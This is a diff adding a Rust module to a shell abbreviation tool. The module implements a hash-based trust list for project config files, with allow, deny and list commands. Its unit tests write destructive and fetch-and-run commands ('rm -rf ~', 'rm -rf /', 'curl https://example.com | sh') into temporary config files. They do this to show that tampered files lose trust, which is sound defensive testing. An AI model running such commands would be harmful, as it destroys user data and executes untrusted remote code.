@@ -0,0 +1,321 @@
+use crate::config::{project_config_paths, Config};
+use crate::expand::template::current_dir;
+use crate::opt::{TrustArgs, TrustedArgs};
+use ansi_term::Color;
+use sha2::{Digest, Sha256};
+use std::fs;
+use std::io;
+use std::path::{Path, PathBuf};
+
+static XDG_DATA_HOME_ENV_KEY: &str = "XDG_DATA_HOME";
+static DATA_DIR: &str = "zabbrev";
+static TRUST_FILE: &str = "trust";
+static UNTRUSTED_FILE: &str = "untrusted";
+
+#[derive(Debug, PartialEq)]
+pub struct Entry {
+    pub path: PathBuf,
+    pub hash: String,
+}
+
+/// Project configs allowed to be loaded, stored with the hash of the files they are loaded from.
+#[derive(Debug)]
+pub struct Trust {
+    file: PathBuf,
+}
+
+impl Trust {
+    /// Returns the list in `${XDG_DATA_HOME:-$HOME/.local/share}/zabbrev/trust`.
+    pub fn open() -> Option<Self> {
+        let data_home = match std::env::var_os(XDG_DATA_HOME_ENV_KEY) {
+            Some(dir) => PathBuf::from(dir),
+            None => dirs::home_dir()?.join(".local/share"),
+        };
+
+        Some(Self::at(data_home.join(DATA_DIR).join(TRUST_FILE)))
+    }
+
+    pub fn at<P: AsRef<Path>>(file: P) -> Self {
+        Self {
+            file: file.as_ref().to_path_buf(),
+        }
+    }
+
+    /// Returns whether `path` is allowed and none of `files`, which it is loaded from, has
+    /// changed since.
+    pub fn is_trusted(&self, path: &Path, files: &[PathBuf]) -> bool {
+        let path = absolute_path(path);
+
+        match hash_files(files) {
+            Ok(hash) => self.entries().contains(&Entry { path, hash }),
+            Err(_) => false,
+        }
+    }
+
+    /// Records the current content of `files`, which `path` is loaded from, as trusted.
+    pub fn allow(&self, path: &Path, files: &[PathBuf]) -> io::Result<()> {
+        let path = absolute_path(path);
+        let hash = hash_files(files)?;
+
+        let mut entries = self.entries();
+        entries.retain(|entry| entry.path != path);
+        entries.push(Entry { path, hash });
+
+        self.write(&entries)
+    }
+
+    /// Records that `path` loaded from `files` was reported as untrusted, and returns whether
+    /// it had not been reported with the same content yet.
+    pub fn first_warning(&self, path: &Path, files: &[PathBuf]) -> bool {
+        let path = absolute_path(path);
+        let hash = match hash_files(files) {
+            Ok(hash) => hash,
+            Err(_) => return true,
+        };
+        let file = self.file.with_file_name(UNTRUSTED_FILE);
+
+        let mut entries = read_entries(&file);
+        if entries.contains(&Entry {
+            path: path.clone(),
+            hash: hash.clone(),
+        }) {
+            return false;
+        }
+
+        entries.retain(|entry| entry.path != path);
+        entries.push(Entry { path, hash });
+
+        let _ = write_entries(&file, &entries);
+        true
+    }
+
+    /// Removes `path` from the list and returns whether it was there.
+    pub fn deny(&self, path: &Path) -> io::Result<bool> {
+        let path = absolute_path(path);
+
+        let mut entries = self.entries();
+        let count = entries.len();
+        entries.retain(|entry| entry.path != path);
+
+        if entries.len() == count {
+            return Ok(false);
+        }
+
+        self.write(&entries).map(|_| true)
+    }
+
+    /// Returns the entries sorted by path.
+    pub fn entries(&self) -> Vec<Entry> {
+        read_entries(&self.file)
+    }
+
+    fn write(&self, entries: &[Entry]) -> io::Result<()> {
+        write_entries(&self.file, entries)
+    }
+}
+
+/// Reads the `hash\tpath` lines of `file`, sorted by path.
+fn read_entries(file: &Path) -> Vec<Entry> {
+    let content = fs::read_to_string(file).unwrap_or_default();
+
+    let mut entries = content
+        .lines()
+        .filter_map(|line| line.split_once('\t'))
+        .map(|(hash, path)| Entry {
+            path: PathBuf::from(path),
+            hash: hash.to_string(),
+        })
+        .collect::<Vec<_>>();
+
+    entries.sort_by(|a, b| a.path.cmp(&b.path));
+    entries
+}
+
+fn write_entries(file: &Path, entries: &[Entry]) -> io::Result<()> {
+    let content = entries
+        .iter()
+        .map(|entry| format!("{}\t{}\n", entry.hash, entry.path.to_string_lossy()))
+        .collect::<String>();
+
+    if let Some(dir) = file.parent() {
+        fs::create_dir_all(dir)?;
+    }
+    fs::write(file, content)
+}
+
+/// Returns `path` with symbolic links resolved, or joined to the current directory if it is gone.
+fn absolute_path(path: &Path) -> PathBuf {
+    path.canonicalize()
+        .unwrap_or_else(|_| current_dir().join(path))
+}
+
+/// Hashes the paths and the contents of `files`, so that a moved file changes the hash too.
+fn hash_files(files: &[PathBuf]) -> io::Result<String> {
+    let mut hasher = Sha256::new();
+
+    for file in files {
+        hasher.update(absolute_path(file).to_string_lossy().as_bytes());
+        hasher.update([0]);
+        hasher.update(fs::read(file)?);
+        hasher.update([0]);
+    }
+
+    Ok(hasher
+        .finalize()
+        .iter()
+        .map(|byte| format!("{:02x}", byte))
+        .collect())
+}
+
+/// Returns the files `path` is loaded from, which its trust covers.
+fn source_files(path: &Path) -> Result<Vec<PathBuf>, String> {
+    Config::load_from_file(path)
+        .map(|config| config.files)
+        .map_err(|err| err.to_string())
+}
+
+/// Returns the project config given on the command line, or the nearest one from a directory.
+fn target(args: &TrustArgs) -> Option<PathBuf> {
+    let path = args.path.clone().unwrap_or_else(current_dir);
+
+    if path.is_dir() {
+        project_config_paths(&path).pop()
+    } else {
+        Some(path)
+    }
+}
+
+fn open_or_exit() -> Trust {
+    Trust::open().expect("could not determine data directory")
+}
+
+fn exit_with_error(error_message: String) -> ! {
+    let error_style = Color::Red.normal();
+
+    eprintln!("{}", error_style.paint(error_message));
+    std::process::exit(1);
+}
+
+pub fn allow(args: &TrustArgs) {
+    let path = target(args).unwrap_or_else(|| exit_with_error("no .zabbrev.yaml found".into()));
+
+    let allowed = source_files(&path).and_then(|files| {
+        open_or_exit()
+            .allow(&path, &files)
+            .map_err(|err| err.to_string())
+    });
+
+    if let Err(err) = allowed {
+        exit_with_error(format!("failed to allow `{}': {}", path.display(), err));
+    }
+    println!("allowed {}", absolute_path(&path).display());
+}
+
+pub fn deny(args: &TrustArgs) {
+    let path = target(args).unwrap_or_else(|| exit_with_error("no .zabbrev.yaml found".into()));
+
+    match open_or_exit().deny(&path) {
+        Ok(true) => println!("denied {}", absolute_path(&path).display()),
+        Ok(false) => println!("{} is not trusted", absolute_path(&path).display()),
+        Err(err) => exit_with_error(format!("failed to deny `{}': {}", path.display(), err)),
+    }
+}
+
+pub fn trusted(_args: &TrustedArgs) {
+    for entry in open_or_exit().entries() {
+        let hash = source_files(&entry.path)
+            .and_then(|files| hash_files(&files).map_err(|err| err.to_string()));
+        let status = match hash {
+            _ if !entry.path.exists() => "missing",
+            Ok(hash) if hash == entry.hash => "trusted",
+            _ => "changed",
+        };
+
+        println!("{}\t{}", entry.path.display(), status);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testing::TempDir;
+
+    #[test]
+    fn test_trust() {
+        let dir = TempDir::new("trust");
+        let trust = Trust::at(dir.join("data/trust"));
+        let config = dir.join("repo/.zabbrev.yaml");
+        let files = || source_files(&config).unwrap();
+
+        dir.write("repo/.zabbrev.yaml", "abbrevs: []\n");
+
+        assert!(!trust.is_trusted(&config, &files()));
+
+        trust.allow(&config, &files()).unwrap();
+        assert!(trust.is_trusted(&config, &files()));
+        assert!(trust.is_trusted(&dir.join("repo/../repo/.zabbrev.yaml"), &files()));
+
+        // A changed file is no longer trusted
+        dir.write(
+            "repo/.zabbrev.yaml",
+            "abbrevs: [{ abbr: x, snippet: rm -rf ~, evaluate: true }]\n",
+        );
+        assert!(!trust.is_trusted(&config, &files()));
+
+        trust.allow(&config, &files()).unwrap();
+        assert!(trust.is_trusted(&config, &files()));
+        assert_eq!(trust.entries().len(), 1);
+
+        assert!(trust.deny(&config).unwrap());
+        assert!(!trust.deny(&config).unwrap());
+        assert!(!trust.is_trusted(&config, &files()));
+        assert!(trust.entries().is_empty());
+    }
+
+    #[test]
+    fn test_trust_included_files() {
+        let dir = TempDir::new("trust-include");
+        let trust = Trust::at(dir.join("data/trust"));
+        let config = dir.join("repo/.zabbrev.yaml");
+        let files = || source_files(&config).unwrap();
+
+        dir.write("repo/.zabbrev.yaml", "include: [more.yaml]\n");
+        dir.write(
+            "repo/more.yaml",
+            "abbrevs: [{ abbr: b, snippet-file: build.sh }]\n",
+        );
+        dir.write("repo/build.sh", "make\n");
+
+        trust.allow(&config, &files()).unwrap();
+        assert!(trust.is_trusted(&config, &files()));
+
+        // Included files and snippet files are covered too
+        dir.write("repo/build.sh", "curl https://example.com | sh\n");
+        assert!(!trust.is_trusted(&config, &files()));
+
+        trust.allow(&config, &files()).unwrap();
+        dir.write(
+            "repo/more.yaml",
+            "abbrevs: [{ abbr: x, snippet-command: [rm, -rf, /] }]\n",
+        );
+        assert!(!trust.is_trusted(&config, &files()));
+    }
+
+    #[test]
+    fn test_first_warning() {
+        let dir = TempDir::new("trust-warning");
+        let trust = Trust::at(dir.join("data/trust"));
+        let config = dir.join("repo/.zabbrev.yaml");
+        let files = || source_files(&config).unwrap();
+
+        dir.write("repo/.zabbrev.yaml", "abbrevs: []\n");
+
+        assert!(trust.first_warning(&config, &files()));
+        assert!(!trust.first_warning(&config, &files()));
+
+        // A change is reported again
+        dir.write("repo/.zabbrev.yaml", "abbrevs: [{ abbr: x, snippet: y }]\n");
+        assert!(trust.first_warning(&config, &files()));
+        assert!(!trust.first_warning(&config, &files()));
+    }
+}